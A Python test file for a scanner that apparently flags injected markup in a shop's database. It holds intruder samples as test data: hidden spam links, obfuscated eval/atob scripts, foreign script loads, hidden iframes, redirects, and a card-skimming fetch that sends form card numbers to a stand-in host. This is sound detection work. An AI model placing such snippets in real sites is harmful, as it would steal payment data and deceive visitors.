"""HTML and JavaScript of a database: what hides and what leads elsewhere, and what honest pages do."""

import pytest

from scanners.database.markup import judge_markup
from sentry.domain.finding import FindingClass

OWN = frozenset({"shop.example"})
CONFIRMED, SUSPICIOUS = FindingClass.CONFIRMED, FindingClass.SUSPICIOUS


def _rules(content: str) -> dict[str, FindingClass]:
    return {sign.rule: sign.verdict for sign in judge_markup(content.encode(), OWN)}


@pytest.mark.parametrize(
    "content",
    [
        "<p>Hello</p>",
        '<div style="display:none"><a href="/menu">Menu</a> <a href="https://www.shop.example/b">b</a></div>',
        '<div style="display:none"><a href="https://www.facebook.com/shop">f</a></div>',
        '<div style="display:none"></div><p><a href="https://partner.example">a partner</a></p>',
        '<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>',
        "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}</script>",
        '<iframe src="https://www.googletagmanager.com/ns.html?id=G" height="0" style="display:none"></iframe>',
        '<iframe width="560" height="315" src="https://www.youtube.com/embed/x"></iframe>',
        '<img src="a.jpg" onclick="openGallery(3)">',
        "<script>!function(b,e,v,t){t=b.createElement(e);t.src=v}(document,'script','//connect.facebook.net/e.js')</script>",
        '<a href="javascript:void(0)">x</a><p style="opacity:0.5;height:100px;overflow:hidden">y</p>',
    ],
)
def test_markup_of_honest_pages_has_no_sign(content: str) -> None:
    """Menus, analytics, videos and galleries."""
    assert _rules(content) == {}


SPAM = "".join(f"<a href='http://pills-{number}.example/'>pills</a>" for number in range(3))


@pytest.mark.parametrize(
    ("content", "rule", "verdict"),
    [
        (f"<div style='position:absolute;left:-9999px'>{SPAM}</div>", "db_hidden_links", CONFIRMED),
        (f"<p style='font-size:0'><b>{SPAM}</b></p>", "db_hidden_links", CONFIRMED),
        (f"<div style='height:1px;overflow:hidden'><p>x</p>{SPAM}</div>", "db_hidden_links", CONFIRMED),
        ("<a style='display:none' href='//pills.example'>x</a>", "db_hidden_links", SUSPICIOUS),
        ('<div style=\\"display:none\\"><a href=\\"https:\\/\\/pills.example\\">', "db_hidden_links", SUSPICIOUS),
        ("<script src=https://cdn.evil.example/x.js>", "db_foreign_script", SUSPICIOUS),
        ("<script src='data:text/javascript;base64,YWxlcnQoMSk='></script>", "db_script_in_address", CONFIRMED),
        ("<script>eval(String.fromCharCode(97,98))</script>", "db_script_runs_hidden", CONFIRMED),
        ("<svg onload=\"setTimeout(atob('YQ=='))\">", "db_script_runs_hidden", CONFIRMED),
        ("<script>document.write(unescape('%3Cscript'))</script>", "db_script_loads_hidden", CONFIRMED),
        ("<script>window.location.href=atob('aHR0cA==')</script>", "db_script_goes_hidden", CONFIRMED),
        ("<script>location.replace('https://elsewhere.example/')</script>", "db_script_forwards", SUSPICIOUS),
        (
            "<script>var s=document.createElement('script');s.src='//e.example/a.js'</script>",
            "db_script_loads",
            SUSPICIOUS,
        ),
        ("<script>eval(function(p,a,c,k,e,d){})</script>", "db_script_packed", SUSPICIOUS),
        (
            "<script>fetch('https://e.example/?'+document.forms[0].card_number.value)</script>",
            "db_script_takes_cards",
            CONFIRMED,
        ),
        ("<iframe src='http://e.example' style='visibility: hidden'>", "db_hidden_frame", CONFIRMED),
        ("<meta http-equiv=refresh content='0; url=http://e.example/'>", "db_forwards", SUSPICIOUS),
    ],
)
def test_markup_of_intruders_has_its_sign(content: str, rule: str, verdict: FindingClass) -> None:
    """What they put into posts, widgets and comments."""
    assert _rules(content).get(rule) is verdict


def test_markup_sign_shows_its_line_and_nothing_a_terminal_obeys() -> None:
    """Where it stands, cut, and without control characters."""
    content = b"one\ntwo\n\x1b[31m<script src='//e.example/a'></script>" + b"x" * 999
    (sign,) = judge_markup(content, OWN)
    assert [line.number for line in sign.way] == [3]
    assert sign.way[0].text.isprintable()
    assert len(sign.way[0].text) <= 160


@pytest.mark.parametrize(
    "content", [b"<a " * 40_000, b'<a x="' * 30_000, b"<script>" * 20_000, b"<div style='" * 20_000]
)
def test_markup_that_is_made_to_be_slow_is_read_in_time(content: bytes) -> None:
    """Tags that never end; the time limit of a test is the bound."""
    assert all(sign.rule for sign in judge_markup(content, OWN))
